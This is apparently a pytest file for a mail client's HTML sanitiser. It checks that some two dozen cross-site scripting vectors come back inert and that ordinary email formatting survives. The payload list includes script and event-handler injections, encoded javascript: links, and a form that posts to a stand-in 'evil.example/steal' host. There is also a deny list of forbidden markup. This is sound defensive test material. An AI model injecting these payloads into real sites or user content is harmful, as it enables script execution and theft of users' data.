"""HTML sanitising and plain-text derivation (no database)."""

from __future__ import annotations

import pytest

from deskpal.messages.html import html_to_text, preview_of, sanitize_html

# Each comes back without anything that could run: no script, handler, javascript:/data: URL, form.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>',
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<p style="background-image:url(javascript:alert(1))">s</p>',
    '<div style="behavior:url(x.htc)">d</div>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<body onload=alert(1)>b</body>",
    '<style>@import "https://evil.example/x.css";</style>t',
    "<<script>script>alert(1)<</script>/script>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    '<button formaction="javascript:alert(1)">x</button>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]

FORBIDDEN = ("<script", "onerror", "onload", "onfocus", "ontoggle", "javascript:", "data:", "<form",
             "<iframe", "<svg", "<object", "<embed", "<meta", "<base", "<style", "<link", "behavior",
             "formaction", "<input")  # fmt: skip


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, (needle, html)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vectors_come_back_inert(vector: str) -> None:
    assert_inert(sanitize_html(vector))


def test_normal_mail_formatting_survives() -> None:
    html = (
        '<p style="color:#333;font-weight:bold">Hi <b>Ann</b>, <i>thanks</i></p>'
        '<table width="100%" cellpadding="4"><tr><td style="padding:4px">cell</td></tr></table>'
        '<ul><li>one</li></ul><blockquote>quoted</blockquote><img src="cid:logo" alt="logo">'
        '<a href="https://example.com/help">help</a> <a href="mailto:x@example.com">mail</a>'
    )
    clean = sanitize_html(html)
    kept_parts = ['style="color:#333;font-weight:bold"', "<b>Ann</b>", "<td", "<li>one</li>", "<blockquote>"]
    kept_parts += ['src="cid:logo"', 'href="https://example.com/help"', 'href="mailto:']
    for kept in kept_parts:
        assert kept in clean, (kept, clean)
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_text_is_derived_from_html_blocks_without_markup_or_scripts() -> None:
    html = (
        "<html><head><title>T</title><style>p{color:red}</style></head><body>"
        "<p>Hello&nbsp;<b>world</b> &amp; co</p><p>Line 2<br>Line 3</p><script>evil()</script>"
        "<table><tr><td>a</td><td>b</td></tr></table></body></html>"
    )
    assert html_to_text(html) == "Hello world & co\n\nLine 2\nLine 3\n\na b"


def test_preview_is_one_line_of_at_most_200_characters() -> None:
    preview = preview_of("word\n" * 100)
    assert len(preview) <= 200 and "\n" not in preview and preview.endswith("…")
    assert preview_of("  short   text ") == "short text"
